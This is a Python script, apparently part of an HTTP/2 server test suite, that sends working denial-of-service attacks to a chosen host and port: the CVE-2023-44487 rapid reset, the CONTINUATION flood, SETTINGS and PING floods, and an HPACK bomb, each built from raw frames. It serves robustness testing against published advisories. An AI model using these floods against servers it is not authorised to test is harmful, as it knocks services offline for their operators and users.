"""HTTP/2 attacks from the public record, as a client, for the --http2 tests: python3 h2_attacks.py HOST PORT ATTACK.

Frames are written raw (RFC 9113 §4.1: length(24) type(8) flags(8) R+stream(32)), headers encoded with hpack, so each
attack does exactly what its advisory describes. Prints one JSON line: what was sent and how the server answered.

rapid-reset   CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) on thousands of new streams, never reading
continuation  the 2024 CONTINUATION flood (VU#421644): a HEADERS without END_HEADERS, then endless CONTINUATION frames
settings      a SETTINGS flood: tens of thousands of SETTINGS frames whose ACKs the client never reads
hpack-bomb    one large header inserted into the dynamic table, then referenced thousands of times (1 byte each)
ping          a PING flood whose ACKs the client never reads
"""
import json
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=30)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return tls


def request_block(encoder, path="/"):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)])


def send_until_closed(tls, frames, deadline_seconds=60):
    """Sends frames until done or the server closed; never reads more than it must (a reader that stalls)."""
    sent = 0
    closed = False
    deadline = time.monotonic() + deadline_seconds
    try:
        for data in frames:
            tls.sendall(data)
            sent += 1
            if time.monotonic() > deadline:
                break
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
        closed = True
    return sent, closed


def read_goaway(tls):
    """Reads what the server sent; returns the GOAWAY error code if one came, and whether the server closed."""
    tls.settimeout(10)
    buffer = b""
    goaway = None
    try:
        while True:
            chunk = tls.recv(65536)
            if not chunk:
                return goaway, True
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                if buffer[3] == GOAWAY:
                    goaway = int.from_bytes(buffer[9 + 4:9 + 8], "big")
                buffer = buffer[9 + length:]
    except (socket.timeout, TimeoutError):
        return goaway, False
    except (ConnectionResetError, ssl.SSLError, OSError):
        return goaway, True


def rapid_reset(tls):
    encoder = hpack.Encoder()

    def frames():
        for i in range(20000):
            stream = 1 + 2 * i
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(encoder)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return frames()


def continuation(tls):
    encoder = hpack.Encoder()
    junk = hpack.Encoder().encode([("x-junk", "a" * 8000)])

    def frames():
        yield frame(HEADERS, 0, 1, request_block(encoder))
        for _ in range(100000):
            yield frame(CONTINUATION, 0, 1, junk)
    return frames()


def settings(tls):
    payload = struct.pack(">HI", 0x4, 65535)  # SETTINGS_INITIAL_WINDOW_SIZE

    def frames():
        for _ in range(200000):
            yield frame(SETTINGS, 0, 0, payload)
    return frames()


def ping(tls):
    def frames():
        for i in range(200000):
            yield frame(PING, 0, 0, struct.pack(">Q", i))
    return frames()


def hpack_integer(n, prefix_bits, first):
    """RFC 7541 §5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = [first | limit]
    n -= limit
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def hpack_bomb(tls):
    # A literal with incremental indexing (RFC 7541 §6.2.1) puts a ~3900-byte header in the dynamic table at index 62;
    # each later reference (0xBE: indexed field 62) costs one byte on the wire and ~3900 bytes once decoded.
    encoder = hpack.Encoder()
    name, value = b"x-bomb", b"b" * 3900
    insert = b"\x40" + hpack_integer(len(name), 7, 0) + name + hpack_integer(len(value), 7, 0) + value

    def frames():
        for i in range(200):
            stream = 1 + 2 * i
            block = request_block(encoder) + insert + b"\xbe" * 12000
            pieces = [block[off:off + 16384] for off in range(0, len(block), 16384)]
            data = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0])
            for index, piece in enumerate(pieces[1:], start=2):
                data += frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece)
            yield data
    return frames()


ATTACKS = {"rapid-reset": rapid_reset, "continuation": continuation, "settings": settings, "ping": ping, "hpack-bomb": hpack_bomb}


def main():
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    tls = connect(host, port)
    sent, closed = send_until_closed(tls, ATTACKS[attack](tls))
    goaway, closed_after = read_goaway(tls)
    print(json.dumps({"attack": attack, "sent": sent, "closed": closed or closed_after, "goaway": goaway}))


if __name__ == "__main__":
    main()
